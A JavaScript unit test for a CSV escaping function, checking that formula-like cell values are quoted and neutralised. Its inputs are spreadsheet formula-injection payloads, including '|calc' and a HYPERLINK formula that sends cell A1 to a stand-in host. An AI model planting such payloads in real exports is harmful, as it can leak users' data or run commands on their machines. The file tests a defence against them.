import assert from "node:assert/strict";
import test from "node:test";

import {line} from "../static/csv.js";

test("no cell is a formula, and none ends early", () => {
  for (const [value, cell] of [
    ["=1+1", `"'=1+1"`], ["+1", `"'+1"`], ["-1", `"'-1"`], ["@SUM(A1)", `"'@SUM(A1)"`], ["\t=1", `"[U+0009]=1"`], ["  =1", `"[U+0020] =1"`],
    ["＝1+1", `"'＝1+1"`], ["|calc", `"'|calc"`], [`=HYPERLINK("http://host.example/?x="&A1,"open")`, `"'=HYPERLINK(""http://host.example/?x=""&A1,""open"")"`],
    ["a\r\n=1", `"a[U+000D][U+000A]=1"`], ["\x1b[31mred", `"[U+001B][31mred"`], ["Bob; =1+1", `"Bob;' =1+1"`], [`Bob;"=1`, `"Bob;'""=1"`], ["X11; Linux", `"X11; Linux"`],
    [`a"b,c`, `"a""b,c"`], ["42", `"42"`], ["", `""`],
  ]) {
    assert.equal(line([value]), cell + "\r\n");
  }
  assert.equal(line(["a", "b"]), `"a","b"\r\n`);
});
